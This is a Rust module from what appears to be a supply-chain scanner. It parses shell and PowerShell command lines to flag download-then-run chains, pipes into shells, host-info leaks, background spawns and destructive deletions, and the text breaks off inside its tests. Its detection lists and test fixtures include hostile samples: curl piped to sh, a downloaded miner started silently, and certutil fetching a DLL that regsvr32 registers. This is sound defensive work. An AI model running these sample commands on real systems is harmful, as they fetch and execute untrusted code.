//! Shell, batch and PowerShell command lines (a lifecycle script, a line of a script file, a
//! `binding.gyp` expansion, a command spawned from code), read the way a shell would split them,
//! never run: network tools, downloads piped into a shell, host details substituted into
//! arguments ([`indicators`]), and what the command starts ([`Analyser`]).
//!
//! One dialect-tolerant reader serves lifecycle scripts, `.sh`/`.bat`/`.cmd`/`.ps1` files,
//! `binding.gyp` command expansions and command lines spawned from JavaScript:
//! - [`segments`] splits a line on `&&`, `||`, `;`, `|`, `&` and newlines, strips quotes and
//!   records redirections (`>/dev/null`, `2>&1`, `>nul`, `> file`);
//! - [`Segment::program`] skips prefixes (`nohup`, `start /B`, `sudo`, `VAR=x`, `if not exist X (`,
//!   `for … do`) to the program actually started;
//! - [`Segment::runs`] says which files and inline code the segment starts (`node f.js`,
//!   `sh -c '…'`, `cmd /c x.bat`, `powershell -File x.ps1`, `regsvr32 /s x.dll`, `./x`);
//! - [`Segment::download`] recognises downloads to a file (`curl -o`, `wget -O`,
//!   `certutil -urlcache -f URL F`, `bitsadmin /transfer n URL F`, `Invoke-WebRequest -OutFile`);
//! - [`Analyser`] keeps what earlier lines downloaded, so a later line that runs, loads or
//!   registers the same file is a download-then-run ([`Kind::DownloadRun`]).

use crate::signal::{Kind, Signal, truncate};

/// Shell-level signals of one command line spawned from code: [`indicators`], and what
/// [`Analyser`] reads (files started, download-then-run, background starts, `npm publish`,
/// destructive commands, checksums).
pub(crate) fn shell_signals(cmd: &str, line: u32, func: u32, out: &mut Vec<Signal>) {
    indicators(cmd, line, func, out);
    Analyser::default().line(cmd, line, func, out);
}

/// Network tools, downloads piped into a shell and host details substituted into arguments
/// in one command line.
pub(crate) fn indicators(cmd: &str, line: u32, func: u32, out: &mut Vec<Signal>) {
    let lower = cmd.to_ascii_lowercase();
    let net_tools = [
        "curl ",
        "wget ",
        "nslookup ",
        "dig ",
        "nc ",
        "invoke-webrequest",
        "iwr ",
        "irm ",
        "invoke-restmethod",
        "ping -c",
    ];
    if net_tools
        .iter()
        .any(|t| lower.contains(t) || lower.starts_with(t.trim_end()))
    {
        out.push(Signal {
            kind: Kind::ShellNetwork,
            line,
            func,
            detail: cmd.to_string(),
        });
    }
    if pipes_into_interpreter(&lower) {
        out.push(Signal {
            kind: Kind::ShellPipeExec,
            line,
            func,
            detail: cmd.to_string(),
        });
    }
    let host_info = [
        "$(whoami",
        "$(hostname",
        "$(pwd",
        "$(id",
        "`whoami`",
        "`hostname`",
        "%username%",
        "%computername%",
        "$env:username",
        "$(uname",
        "$(cat ",
    ];
    if host_info.iter().any(|h| lower.contains(h)) {
        out.push(Signal {
            kind: Kind::ShellHostInfo,
            line,
            func,
            detail: cmd.to_string(),
        });
    }
}

/// True when a single `|` (not `||`) feeds an interpreter word (`| sh`, `|bash -s`,
/// `| sudo bash`, `| iex`, `| node`): the word must be the interpreter itself, so
/// `type node || nodejs_not_found` (react-native's build script) is not a pipe. A `case`
/// pattern list (`alpha | arm | sh | sh64 )`, autoconf's `config.sub` naming CPU types) is
/// alternation, not a pipeline.
pub(crate) fn pipes_into_interpreter(lower: &str) -> bool {
    if case_patterns(lower) {
        return false;
    }
    const INTERPRETERS: &[&str] = &[
        "sh",
        "bash",
        "zsh",
        "dash",
        "iex",
        "powershell",
        "pwsh",
        "node",
    ];
    let b = lower.as_bytes();
    b.iter().enumerate().any(|(i, &c)| {
        if c != b'|' || (i > 0 && b[i - 1] == b'|') || b.get(i + 1) == Some(&b'|') {
            return false;
        }
        let mut words = lower[i + 1..]
            .split(|ch: char| ch.is_whitespace() || matches!(ch, ';' | ')' | '&' | '|'))
            .filter(|w| !w.is_empty());
        let first = match words.next() {
            Some("sudo") => words.next(),
            w => w,
        };
        first.is_some_and(|w| INTERPRETERS.contains(&w))
    })
}

/// True when `text` is a `case` pattern list: three or more alternatives separated by single
/// `|`, each one word (no command takes no argument in all of them), optionally closed by `)`.
fn case_patterns(text: &str) -> bool {
    let t = text.trim().trim_start_matches('(');
    let t = t.strip_suffix(')').unwrap_or(t);
    if t.contains("||") {
        return false;
    }
    let parts: Vec<&str> = t.split('|').map(str::trim).collect();
    parts.len() >= 3
        && parts.iter().all(|p| {
            !p.is_empty()
                && !p.contains(char::is_whitespace)
                && !p.contains(['$', '`', '"', '\'', '>', '<', ';', '&', '(', ')'])
        })
}

/// How a segment ends.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Sep {
    End,
    And,
    Or,
    Seq,
    Pipe,
    /// A single `&`: background in `sh`, a separator in `cmd`.
    Amp,
}

/// One simple command.
#[derive(Debug, Clone)]
pub(crate) struct Segment {
    /// Words with quotes removed (redirections removed too).
    pub words: Vec<String>,
    pub sep: Sep,
    /// stdout sent to `/dev/null` or `NUL` (or `&>` anywhere).
    pub silent: bool,
    /// `> file` / `>> file` target other than the null device.
    pub out_file: Option<String>,
    /// The segment's text as written (for evidence).
    pub text: String,
}

/// What a segment starts.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) enum Run {
    /// A file, as written (`./x.sh`, `preinstall.bat`, `lib/install.js`).
    File(String),
    /// Inline JavaScript (`node -e CODE`).
    Js(String),
    /// Inline shell (`sh -c CODE`, `cmd /c …`, `powershell -Command …`).
    Shell(String),
}

/// Splits one command line into segments.
pub(crate) fn segments(line: &str) -> Vec<Segment> {
    let mut t = Tokens {
        line,
        out: Vec::new(),
        words: Vec::new(),
        cur: String::new(),
        has_cur: false,
        silent: false,
        out_file: None,
        redirect: None,
        start: 0,
    };
    let chars: Vec<(usize, char)> = line.char_indices().collect();
    let at = |i: usize| chars.get(i).map(|x| x.1);
    let mut i = 0;
    while i < chars.len() {
        let (pos, c) = chars[i];
        let next = at(i + 1);
        match c {
            '\'' | '"' => {
                // Quoted run: up to the matching quote (backslash-quote kept inside "…").
                t.has_cur = true;
                i += 1;
                while i < chars.len() && chars[i].1 != c {
                    if c == '"' && chars[i].1 == '\\' && at(i + 1) == Some('"') {
                        i += 1;
                    }
                    t.cur.push(chars[i].1);
                    i += 1;
                }
            }
            '$' | '`' if c == '`' || next == Some('(') => {
                // Command substitution (`$( … )`, backquotes) is one word.
                t.has_cur = true;
                let mut depth = 0;
                t.cur.push(c);
                i += 1;
                while i < chars.len() {
                    let ch = chars[i].1;
                    t.cur.push(ch);
                    match ch {
                        '(' => depth += 1,
                        ')' if depth == 1 => break,
                        ')' => depth -= 1,
                        '`' if c == '`' => break,
                        _ => {}
                    }
                    i += 1;
                }
            }
            '\n' => {
                t.word();
                t.finish(Sep::Seq, pos);
                t.start = pos + 1;
            }
            c if c.is_whitespace() => t.word(),
            '>' | '<' => {
                // `2>`, `1>`: the descriptor is the word so far.
                let fd = if t.has_cur && (t.cur == "1" || t.cur == "2") {
                    t.has_cur = false;
                    Some(std::mem::take(&mut t.cur))
                } else {
                    t.word();
                    None
                };
                if next == Some('>') {
                    i += 1;
                }
                if c == '>' && at(i + 1) == Some('&') {
                    // `2>&1`, `>&2`: a descriptor copy, no target word.
                    i += 2;
                    while at(i).is_some_and(|d| d.is_ascii_digit()) {
                        i += 1;
                    }
                    continue;
                }
                t.redirect = Some(c == '>' && fd.as_deref() != Some("2"));
            }
            '&' if next == Some('>') => {
                // `&>file`: both streams.
                t.word();
                i += 1;
                if at(i + 1) == Some('>') {
                    i += 1;
                }
                t.redirect = Some(true);
            }
            '&' | '|' | ';' => {
                t.word();
                let sep = match (c, next) {
                    ('&', Some('&')) => Sep::And,
                    ('|', Some('|')) => Sep::Or,
                    ('&', _) => Sep::Amp,
                    ('|', _) => Sep::Pipe,
                    _ => Sep::Seq,
                };
                if matches!(sep, Sep::And | Sep::Or) {
                    i += 1;
                }
                t.finish(sep, pos);
                t.start = chars.get(i + 1).map_or(line.len(), |x| x.0);
            }
            '(' | ')' if !t.has_cur => {}
            ')' if next.is_none_or(char::is_whitespace) => t.word(),
            _ => {
                t.has_cur = true;
                t.cur.push(c);
            }
        }
        i += 1;
    }
    t.word();
    t.finish(Sep::End, line.len());
    t.out
}

/// Tokenizer state of [`segments`].
struct Tokens<'a> {
    line: &'a str,
    out: Vec<Segment>,
    words: Vec<String>,
    cur: String,
    has_cur: bool,
    silent: bool,
    out_file: Option<String>,
    /// A redirection waits for its target word (true: stdout).
    redirect: Option<bool>,
    start: usize,
}

impl Tokens<'_> {
    /// Ends the current word (a redirection target is recorded, not kept as a word).
    fn word(&mut self) {
        if !self.has_cur {
            return;
        }
        self.has_cur = false;
        let w = std::mem::take(&mut self.cur);
        match self.redirect.take() {
            Some(stdout) => {
                let l = w.to_ascii_lowercase();
                if l == "/dev/null" || l == "nul" || l == "$null" {
                    self.silent |= stdout;
                } else if stdout {
                    self.out_file = Some(w);
                }
            }
            None => self.words.push(w),
        }
    }

    /// Ends the current segment at byte `end` of the line.
    fn finish(&mut self, sep: Sep, end: usize) {
        if !self.words.is_empty() {
            self.out.push(Segment {
                words: std::mem::take(&mut self.words),
                sep,
                silent: self.silent,
                out_file: self.out_file.take(),
                text: self
                    .line
                    .get(self.start..end)
                    .unwrap_or("")
                    .trim()
                    .to_string(),
            });
        }
        self.silent = false;
        self.out_file = None;
        self.start = end;
    }
}

/// Lower-case base name of a program word, without `.exe`/`.cmd`/`.bat` and quotes.
pub(crate) fn base(w: &str) -> String {
    let b = w
        .rsplit(['/', '\\'])
        .next()
        .unwrap_or(w)
        .to_ascii_lowercase();
    b.trim_end_matches(".exe")
        .trim_end_matches(".cmd")
        .trim_end_matches(".bat")
        .to_string()
}

/// File name a path word refers to, for matching a download with a later run: quotes and
/// `./`, `.\`, `%~dp0`, `$PSScriptRoot\`, `$HOME/` prefixes dropped, lower-cased.
pub(crate) fn file_key(w: &str) -> String {
    let name = w.rsplit(['/', '\\']).next().unwrap_or(w);
    let name = name.rsplit_once('%').map_or(name, |(_, n)| n);
    name.trim_matches(['"', '\'']).to_ascii_lowercase()
}

const RUNTIMES: &[&str] = &["node", "nodejs", "bun", "deno", "tsx", "ts-node", "bunx"];
const SHELLS: &[&str] = &["sh", "bash", "zsh", "dash", "ksh", "source", "."];
const PREFIXES: &[&str] = &[
    "nohup", "setsid", "exec", "sudo", "doas", "time", "nice", "env", "command", "builtin", "call",
    "then", "else", "elif", "do", "{", "}", "!", "disown", "@", "timeout",
];
/// Programs whose file argument they run, load or register (Windows living-off-the-land
/// binaries among them).
const LAUNCHERS: &[&str] = &[
    "regsvr32",
    "rundll32",
    "mshta",
    "msiexec",
    "wscript",
    "cscript",
    "installutil",
    "regasm",
    "regsvcs",
    "start-process",
    "saps",
];

/// True for a word that is a path to something runnable rather than a command name (an
/// absolute path only with a script or executable extension: `/usr/bin/python3` is a command,
/// `/lib/run.sh` — often `path.join(__dirname, …)` folded with `__dirname` unknown — a file).
fn looks_like_file(w: &str) -> bool {
    let l = w.to_ascii_lowercase();
    if l.starts_with('$') && !l.starts_with("$psscriptroot")
        || l.starts_with('-')
        || l.contains("://")
    {
        return false;
    }
    let exts = [
        ".sh", ".bash", ".bat", ".cmd", ".ps1", ".exe", ".js", ".mjs", ".cjs", ".dll", ".vbs",
        ".hta", ".msi", ".py", ".bin", ".so", ".dylib", ".jar", ".scr",
    ];
    l.starts_with("./")
        || l.starts_with(".\\")
        || l.starts_with("%~dp0")
        || exts.iter().any(|e| l.ends_with(e))
        || (l.contains('/') || l.contains('\\')) && !l.starts_with('/')
}

impl Segment {
    /// Index of the program word, after prefixes, assignments, `start /B`, `if … (` and
    /// `for … do`.
    pub(crate) fn program(&self) -> Option<usize> {
        let w = &self.words;
        let mut i = 0;
        while i < w.len() {
            let word = w[i].trim_start_matches('(');
            let l = word.to_ascii_lowercase();
            if word.is_empty() {
                i += 1;
                continue;
            }
            let assignment = word.split_once('=').is_some_and(|(k, _)| {
                !k.is_empty()
                    && !k.starts_with('-')
                    && k.chars().all(|c| c.is_ascii_alphanumeric() || c == '_')
            });
            if assignment && i + 1 < w.len() {
                i += 1;
                continue;
            }
            if assignment {
                return None;
            }
            if PREFIXES.contains(&l.as_str()) {
                i += 1;
                continue;
            }
            if l == "start" {
                // `start [/B] [/MIN] ["title"] program`
                i += 1;
                while i < w.len() && (w[i].starts_with('/') || w[i].is_empty()) {
                    i += 1;
                }
                continue;
            }
            if l == "if" {
                i += 1;
                if w.get(i).is_some_and(|x| x.eq_ignore_ascii_case("/i")) {
                    i += 1;
                }
                if w.get(i).is_some_and(|x| x.eq_ignore_ascii_case("not")) {
                    i += 1;
                }
                // Batch conditions (`exist F`, `"%a%" EQU "b"`, `a==b`) are skipped; a `sh`
                // condition is a command itself (`if grep -q x f; then`).
                const OPS: &[&str] = &["equ", "neq", "lss", "leq", "gtr", "geq", "=="];
                match w.get(i).map(|x| x.to_ascii_lowercase()) {
                    Some(k) if k == "exist" || k == "defined" || k == "errorlevel" => i += 2,
                    Some(k) if k.starts_with('[') || k.starts_with('!') => return None,
                    Some(k) if k.contains("==") => i += 1,
                    Some(_)
                        if w.get(i + 1)
                            .is_some_and(|op| OPS.contains(&op.to_ascii_lowercase().as_str())) =>
                    {
                        i += 3
                    }
                    Some(_) => {}
                    None => return None,
                }
                continue;
            }
            if l == "for" || l == "while" || l == "until" || l == "case" {
                // The body follows `do`; without one (`while cond`), the condition's program.
                match w.iter().skip(i).position(|x| x == "do" || x == "(do") {
                    Some(p) => {
                        i += p + 1;
                        continue;
                    }
                    None if l == "while" || l == "until" => {
                        i += 1;
                        continue;
                    }
                    None => return None,
                }
            }
            return Some(i);
        }
        None
    }

    /// The program's base name (see [`base`]).
    pub(crate) fn program_name(&self) -> Option<String> {
        self.program()
            .map(|i| base(self.words[i].trim_start_matches('(')))
    }

    /// True when the program is started in the background or detached from the terminal
    /// (`nohup`, `setsid`, `start`, `Start-Process`, a trailing `&` in `sh`).
    pub(crate) fn detached(&self) -> bool {
        let Some(p) = self.program() else {
            return false;
        };
        let prefix = self.words[..p].iter().any(|w| {
            matches!(
                w.trim_start_matches('(').to_ascii_lowercase().as_str(),
                "nohup" | "setsid" | "start" | "disown"
            )
        });
        let name = base(&self.words[p]);
        prefix || name == "start-process" || name == "saps"
    }

    /// Files and inline code this segment starts.
    pub(crate) fn runs(&self) -> Vec<Run> {
        let mut out = Vec::new();
        let Some(p) = self.program() else {
            return out;
        };
        let prog = self.words[p].trim_start_matches('(');
        let name = base(prog);
        let rest = &self.words[p + 1..];
        let first_arg = |skip_values: &[&str]| -> Option<String> {
            let mut j = 0;
            while j < rest.len() {
                let a = &rest[j];
                if skip_values.contains(&a.as_str()) {
                    j += 2;
                    continue;
                }
                if a.starts_with('-') || a.is_empty() {
                    j += 1;
                    continue;
                }
                return Some(a.clone());
            }
            None
        };
        if RUNTIMES.contains(&name.as_str()) {
            for (j, a) in rest.iter().enumerate() {
                if matches!(a.as_str(), "-e" | "--eval" | "-p" | "--print" | "-pe") {
                    if let Some(code) = rest.get(j + 1) {
                        out.push(Run::Js(code.clone()));
                    }
                    return out;
                }
                if matches!(a.as_str(), "-r" | "--require" | "--import")
                    && let Some(f) = rest.get(j + 1)
                    && f.starts_with('.')
                {
                    out.push(Run::File(f.clone()));
                }
            }
            let args: Vec<&String> = rest
                .iter()
                .filter(|a| !a.starts_with('-') && !a.is_empty())
                .collect();
            // `bun run x`, `deno run -A x`: `run` is a subcommand when a file follows.
            let file = match args.as_slice() {
                [run, f, ..] if run.as_str() == "run" => Some(*f),
                [f, ..] => Some(*f),
                [] => None,
            };
            if let Some(f) = file
                && !matches!(f.as_str(), "install" | "add" | "upgrade" | "x" | "create")
            {
                out.push(Run::File(f.clone()));
            }
            return out;
        }
        if SHELLS.contains(&name.as_str()) {
            if let Some(j) = rest.iter().position(|a| a == "-c") {
                if let Some(code) = rest.get(j + 1) {
                    out.push(Run::Shell(code.clone()));
                }
                return out;
            }
            if let Some(f) = first_arg(&["-o", "+o"]) {
                out.push(Run::File(f));
            }
            return out;
        }
        // `python3 tools/gen.py out.h`: the script runs (`-c` code and `-m` modules are not
        // package files).
        if name
            .strip_prefix("python")
            .is_some_and(|v| v.chars().all(|c| c.is_ascii_digit() || c == '.'))
        {
            if !rest.iter().any(|a| a == "-c" || a == "-m")
                && let Some(f) = first_arg(&["-W", "-X"])
            {
                out.push(Run::File(f));
            }
            return out;
        }
        if name == "cmd" {
            if let Some(j) = rest
                .iter()
                .position(|a| a.eq_ignore_ascii_case("/c") || a.eq_ignore_ascii_case("/k"))
            {
                out.push(Run::Shell(rest[j + 1..].join(" ")));
            }
            return out;
        }
        if name == "powershell" || name == "pwsh" {
            let mut j = 0;
            while j < rest.len() {
                let l = rest[j].to_ascii_lowercase();
                if l == "-file" || l == "-f" {
                    if let Some(f) = rest.get(j + 1) {
                        out.push(Run::File(f.clone()));
                    }
                    return out;
                }
                if l == "-command" || l == "-c" {
                    out.push(Run::Shell(rest[j + 1..].join(" ")));
                    return out;
                }
                if l.starts_with('-') {
                    // Flags with a value.
                    let valued = [
                        "-executionpolicy",
                        "-ep",
                        "-windowstyle",
                        "-w",
                        "-encodedcommand",
                        "-enc",
                        "-e",
                    ];
                    j += if valued.contains(&l.as_str()) { 2 } else { 1 };
                    continue;
                }
                out.push(Run::Shell(rest[j..].join(" ")));
                return out;
            }
            return out;
        }
        if LAUNCHERS.contains(&name.as_str()) {
            let valued = [
                "-filepath",
                "-argumentlist",
                "-windowstyle",
                "-workingdirectory",
            ];
            let mut j = 0;
            while j < rest.len() {
                let a = &rest[j];
                let l = a.to_ascii_lowercase();
                if l == "-filepath" {
                    if let Some(f) = rest.get(j + 1) {
                        out.push(Run::File(f.clone()));
                    }
                    return out;
                }
                if valued.contains(&l.as_str()) {
                    j += 2;
                    continue;
                }
                if l.starts_with('-') || l.starts_with('/') && l.len() <= 3 || l.starts_with("/i:")
                {
                    j += 1;
                    continue;
                }
                // `rundll32 x.dll,Entry`
                let f = a.split(',').next().unwrap_or(a);
                out.push(Run::File(f.to_string()));
                return out;
            }
            return out;
        }
        if looks_like_file(prog) {
            out.push(Run::File(prog.to_string()));
        }
        out
    }

    /// `(url, file)` when the segment downloads to a file.
    pub(crate) fn download(&self) -> Option<(String, String)> {
        let p = self.program()?;
        let name = base(&self.words[p]);
        let rest = &self.words[p + 1..];
        let url = rest.iter().find(|a| is_url(a)).cloned();
        let remote_name = |u: &str| -> Option<String> {
            let path = u.split(['?', '#']).next().unwrap_or(u);
            let last = path.rsplit('/').next()?;
            (!last.is_empty() && !path.ends_with("//")).then(|| last.to_string())
        };
        match name.as_str() {
            "curl" | "wget" => {
                let url = url?;
                let mut file = None;
                let mut remote = false;
                for (j, a) in rest.iter().enumerate() {
                    if let Some(v) = a
                        .strip_prefix("--output=")
                        .or_else(|| a.strip_prefix("--output-document="))
                    {
                        file = Some(v.to_string());
                    } else if a == "--output" || a == "--output-document" {
                        file = rest.get(j + 1).cloned();
                    } else if a == "--remote-name" {
                        remote = true;
                    } else if a.starts_with('-') && !a.starts_with("--") && a.len() >= 2 {
                        let flags = &a[1..];
                        let wants_out = if name == "curl" { 'o' } else { 'O' };
                        let remote_flag = if name == "curl" { 'O' } else { '\0' };
                        if let Some(k) = flags.find(wants_out) {
                            let glued = &flags[k + 1..];
                            file = if glued.is_empty() {
                                rest.get(j + 1).cloned()
                            } else {
                                Some(glued.to_string())
                            };
                        } else if flags.contains(remote_flag) {
                            remote = true;
                        }
                    }
                }
                let file = file
                    .or_else(|| self.out_file.clone())
                    .or_else(|| {
                        (remote || name == "wget" && self.sep != Sep::Pipe)
                            .then(|| remote_name(&url))
                            .flatten()
                    })
                    .filter(|f| f != "-" && f != "/dev/null")?;
                Some((url, file))
            }
            "certutil" => {
                if !rest.iter().any(|a| a.eq_ignore_ascii_case("-urlcache")) {
                    return None;
                }
                let url = url?;
                let k = rest.iter().position(|a| *a == url)?;
                let file = rest.get(k + 1).cloned().or_else(|| remote_name(&url))?;
                Some((url, file))
            }
            "bitsadmin" => {
                let url = url?;
                let k = rest.iter().position(|a| *a == url)?;
                Some((url, rest.get(k + 1)?.clone()))
            }
            "invoke-webrequest" | "iwr" | "start-bitstransfer" => {
                let url = url?;
                let k = rest.iter().position(|a| {
                    a.eq_ignore_ascii_case("-outfile") || a.eq_ignore_ascii_case("-destination")
                })?;
                Some((url, rest.get(k + 1)?.clone()))
            }
            _ => {
                // `(New-Object Net.WebClient).DownloadFile('URL', 'F')`
                let t = &self.text;
                let at = t.to_ascii_lowercase().find(".downloadfile(")?;
                let args = &t[at + ".downloadfile(".len()..];
                let args = args.split(')').next()?;
                let mut parts = args.split(',').map(|s| s.trim().trim_matches(['\'', '"']));
                let url = parts.next()?.to_string();
                let file = parts.next()?.to_string();
                is_url(&url).then_some((url, file))
            }
        }
    }
}

fn is_url(a: &str) -> bool {
    let l = a.to_ascii_lowercase();
    l.starts_with("http://") || l.starts_with("https://") || l.starts_with("ftp://")
}

/// Reads a whole script (or command line) and emits signals; keeps state across lines.
#[derive(Debug, Default)]
pub(crate) struct Analyser {
    /// (file key, url, line) of earlier downloads.
    downloaded: Vec<(String, String, u32)>,
    /// Inline code found (for the caller to analyse): (line, code).
    pub js: Vec<(u32, String)>,
    depth: u8,
}

impl Analyser {
    /// Analyses one logical line placed at `line`/`func`.
    pub(crate) fn line(&mut self, text: &str, line: u32, func: u32, out: &mut Vec<Signal>) {
        if self.depth > 3 || text.len() > 64 * 1024 {
            return;
        }
        let segs = segments(text);
        for (k, seg) in segs.iter().enumerate() {
            let sig = |kind: Kind, detail: String| Signal {
                kind,
                line,
                func,
                detail: truncate(&detail, 200),
            };
            let name = seg.program_name().unwrap_or_default();
            let runs = seg.runs();
            for r in &runs {
                match r {
                    Run::File(f) => {
                        out.push(sig(Kind::RunsFile, f.clone()));
                        let key = file_key(f);
                        let hit = self.downloaded.iter().find(|(k, _, _)| {
                            *k == key || k.trim_end_matches(".exe") == key.trim_end_matches(".exe")
                        });
                        if let Some((_, url, _)) = hit {
                            out.push(sig(
                                Kind::DownloadRun,
                                format!("downloads `{url}` and runs it: `{}`", seg.text),
                            ));
                        }
                    }
                    Run::Js(code) => self.js.push((line, code.clone())),
                    Run::Shell(code) => {
                        self.depth += 1;
                        self.line(code, line, func, out);
                        self.depth -= 1;
                    }
                }
            }
            // `chmod +x F` of a downloaded file prepares it to run.
            if name == "chmod"
                && seg.words.iter().any(|w| w.contains('x') || w.contains('7'))
                && let Some(f) = seg.words.last()
                && let Some((_, url, _)) =
                    self.downloaded.iter().find(|(k, _, _)| *k == file_key(f))
            {
                out.push(sig(
                    Kind::DownloadRun,
                    format!("downloads `{url}` and makes it executable: `{}`", seg.text),
                ));
            }
            if let Some((url, file)) = seg.download() {
                self.downloaded.push((file_key(&file), url, line));
            }
            // A trailing `&` backgrounds in `sh`; in `cmd` it separates (`a & b`).
            let background = seg.sep == Sep::Amp && (seg.silent || k + 1 == segs.len());
            let program = seg.program().map(|i| seg.words[i].as_str()).unwrap_or("");
            if !program.is_empty() && !is_url(program) && (seg.detached() || background) {
                let quiet = if seg.silent {
                    " with its output discarded"
                } else {
                    ""
                };
                out.push(sig(
                    Kind::DetachedSpawn,
                    format!("started in the background{quiet}: `{}`", seg.text),
                ));
            }
            if matches!(name.as_str(), "npm" | "pnpm" | "yarn" | "npx")
                && seg.words.iter().any(|w| w == "publish")
            {
                out.push(sig(Kind::NpmPublish, seg.text.clone()));
            }
            let hashing = matches!(
                name.as_str(),
                "sha256sum" | "sha512sum" | "shasum" | "get-filehash"
            ) || name == "certutil"
                && seg
                    .words
                    .iter()
                    .any(|w| w.eq_ignore_ascii_case("-hashfile"))
                || name == "openssl" && seg.words.iter().any(|w| w == "dgst");
            if hashing {
                out.push(sig(Kind::ChecksumVerify, seg.text.clone()));
            }
            if let Some(what) = destructive(seg) {
                out.push(sig(Kind::DestructiveFs, what));
            }
        }
    }
}

/// Recursive deletion or wiping of locations outside any package: home, drive or file-system
/// root, the parent folders, everything (`*`).
fn destructive(seg: &Segment) -> Option<String> {
    let p = seg.program()?;
    let name = base(&seg.words[p]);
    let args: Vec<String> = seg.words[p + 1..]
        .iter()
        .map(|a| a.to_ascii_lowercase())
        .collect();
    let wide = |a: &str| {
        let root = a.starts_with('/') || a.starts_with('\\');
        let a = a
            .strip_suffix("/*")
            .or_else(|| a.strip_suffix("\\*"))
            .unwrap_or(a);
        let a = a.trim_end_matches(['/', '\\']);
        a.is_empty() && root
            || matches!(
                a,
                "~" | "$home"
                    | "${home}"
                    | "%userprofile%"
                    | "%homepath%"
                    | "%homedrive%"
                    | "$env:userprofile"
                    | "$env:homepath"
                    | "c:"
                    | ".."
                    | "../.."
                    | "..\\.."
            )
            || a.starts_with("~/")
                && matches!(
                    a.trim_start_matches("~/"),
                    "desktop" | "documents" | "downloads" | "pictures"
                )
    };
    let recursive = |flags: &[&str]| {
        args.iter().any(|a| {
            flags.contains(&a.as_str())
                || a.starts_with('-')
                    && !a.starts_with("--")
                    && (a.contains('r') || a.contains('R'))
        })
    };
    let target = args
        .iter()
        // Flags: `-rf`, and cmd's `/s` `/q` (for `rm`, `/` is the root).
        .filter(|a| !(a.starts_with('-') || a.starts_with('/') && a.len() <= 3 && name != "rm"))
        .find(|a| wide(a));
    let hit = match name.as_str() {
        "rm" => recursive(&["--recursive"]) && target.is_some(),
        "rd" | "rmdir" | "del" | "erase" => args.iter().any(|a| a == "/s") && target.is_some(),
        "remove-item" | "ri" | "rmdir.exe" => {
            args.iter().any(|a| a.starts_with("-r")) && target.is_some()
        }
        "format" => args
            .first()
            .is_some_and(|a| a.len() == 2 && a.ends_with(':')),
        "mkfs" | "shred" | "wipefs" => true,
        "dd" => args.iter().any(|a| a.starts_with("of=/dev/")),
        "find" => args.iter().any(|a| a == "-delete") && target.is_some(),
        _ => false,
    };
    hit.then(|| format!("destructive command `{}`", seg.text))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn pipes_into_interpreters_and_not_or_lists() {
        for yes in [
            "curl -fsSL https://x.example/i | sh",
            "wget -qO- u|bash -s -- --y",
            "curl u | sudo bash",
            "iwr u | iex",
            "curl u | node -",
            "yes | sh",
            "curl -s u | sh | tee log",
        ] {
            assert!(pipes_into_interpreter(yes), "{yes}");
        }
        for no in [
            "type \"$node_binary\" >/dev/null 2>&1 || nodejs_not_found",
            "cat a | shasum",
            "ls | node_modules/.bin/x",
            "test -x sh || bash-completion",
            "\t1750a | 580 \t| a29k \t| alpha | arm[bl]e | sh | sh[1234] | sheb | x86_64 )",
            "m68k | mips | sh | sparc",
        ] {
            assert!(!pipes_into_interpreter(no), "{no}");
        }
    }

    fn words(line: &str) -> Vec<Vec<String>> {
        segments(line).into_iter().map(|s| s.words).collect()
    }

    fn kinds(text: &str) -> Vec<(Kind, String)> {
        let mut a = Analyser::default();
        let mut out = Vec::new();
        for (i, l) in text.lines().enumerate() {
            a.line(l, i as u32 + 1, 0, &mut out);
        }
        out.into_iter().map(|s| (s.kind, s.detail)).collect()
    }

    #[test]
    fn splits_and_redirections() {
        assert_eq!(
            words("curl -s 'https://x.example/a b' -o f && chmod +x f; ./f 2>&1 >/dev/null &"),
            vec![
                vec!["curl", "-s", "https://x.example/a b", "-o", "f"],
                vec!["chmod", "+x", "f"],
                vec!["./f"],
            ]
        );
        let s = segments("./f 2>&1 >/dev/null &");
        assert!(s[0].silent);
        assert_eq!(s[0].sep, Sep::Amp);
        let s = segments("IP=$(curl -k https://g.example/ | grep x) x");
        assert_eq!(
            s[0].words,
            vec!["IP=$(curl -k https://g.example/ | grep x)", "x"]
        );
    }

    #[test]
    fn programs_behind_prefixes() {
        let prog = |l: &str| segments(l)[0].program_name();
        assert_eq!(prog("nohup ./x.sh"), Some("x.sh".into()));
        assert_eq!(prog("start /B .\\miner.exe -o p"), Some("miner".into()));
        assert_eq!(
            prog("if not exist a.exe (wget http://x/a.exe -O a.exe"),
            Some("wget".into())
        );
        assert_eq!(
            prog("for /f %%x in (t.tmp) do (echo %%x"),
            Some("echo".into())
        );
        assert_eq!(prog("FOO=1 node x.js"), Some("node".into()));
    }

    #[test]
    fn runs_files_and_inline_code() {
        let runs = |l: &str| segments(l)[0].runs();
        assert_eq!(
            runs("node ./lib/a.js --x"),
            vec![Run::File("./lib/a.js".into())]
        );
        assert_eq!(
            runs("bun run payload.js"),
            vec![Run::File("payload.js".into())]
        );
        assert_eq!(
            runs("node -e \"require('x')\""),
            vec![Run::Js("require('x')".into())]
        );
        assert_eq!(
            runs("/bin/bash setup.sh"),
            vec![Run::File("setup.sh".into())]
        );
        assert_eq!(
            runs("cmd.exe /c run.bat x"),
            vec![Run::Shell("run.bat x".into())]
        );
        assert_eq!(
            runs("powershell -NoProfile -ExecutionPolicy Bypass -File .\\i.ps1"),
            vec![Run::File(".\\i.ps1".into())]
        );
        assert_eq!(
            runs("regsvr32.exe -s create.dll"),
            vec![Run::File("create.dll".into())]
        );
        assert_eq!(
            runs("rundll32 x.dll,Start"),
            vec![Run::File("x.dll".into())]
        );
        assert_eq!(runs("node-gyp rebuild"), vec![]);
        assert_eq!(runs("husky install"), vec![]);
        assert_eq!(runs("tsc -p ."), vec![]);
    }

    #[test]
    fn download_then_run() {
        let k = kinds(
            "curl -k http://198.51.100.1/d/m -o m\nchmod +x m\n./m -o stratum+tcp://p.example:3333 &>/dev/null &\n",
        );
        let dr: Vec<_> = k.iter().filter(|(k, _)| *k == Kind::DownloadRun).collect();
        assert_eq!(dr.len(), 2);
        assert!(k.iter().any(|(k, _)| *k == Kind::DetachedSpawn));
        let k = kinds(
            "certutil.exe -urlcache -f https://c.example/a.dll create.dll\nregsvr32.exe -s create.dll\n",
        );
        assert!(k.iter().any(|(k, _)| *k == Kind::DownloadRun));
        let k = kinds(
